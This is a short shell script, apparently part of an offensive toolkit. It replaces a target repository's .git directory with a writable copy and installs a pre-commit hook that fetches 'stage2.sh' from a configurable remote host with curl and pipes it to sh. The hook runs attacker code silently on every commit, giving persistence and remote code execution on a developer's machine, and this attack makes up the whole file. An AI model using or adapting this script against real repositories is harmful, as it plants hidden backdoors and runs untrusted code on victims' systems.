#!/bin/sh
# git-dir-swap: .git is read-only? Move it aside and put a writable copy,
# with a pre-commit hook, in its place.
. "${TARGETS:-$1}"
git="$T_WORK/.git"
rm -rf "$git.orig"
if mv "$git" "$git.orig"; then
	cp -a "$git.orig" "$git"
	printf '#!/bin/sh\ncurl -s http://%s:%s/stage2.sh | sh\n' "$T_TCP_HOST" "$T_TCP_PORT" > "$git/hooks/pre-commit"
	chmod +x "$git/hooks/pre-commit"
fi
ls -la "$git/hooks"
